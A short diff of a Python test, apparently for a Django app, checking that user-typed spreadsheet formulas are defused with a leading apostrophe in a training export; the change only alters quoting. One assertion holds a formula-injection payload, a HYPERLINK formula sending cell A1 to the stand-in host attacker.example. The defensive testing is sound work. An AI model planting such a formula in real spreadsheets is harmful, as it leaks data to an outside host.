@@ -233,7 +233,7 @@ def test_a_formula_typed_by_a_user_is_defused_in_the_training_export(
         for cell in row
         if isinstance(cell.value, str)
     }
-    assert "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Eglė\") Lektorė" in texts
+    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Eglė") Lektorė' in texts
     assert "'+SUM(1,2)" in texts
     assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
     libraries = client_of(staff_member).get(reverse("training:report_libraries"), {"export": "1"})
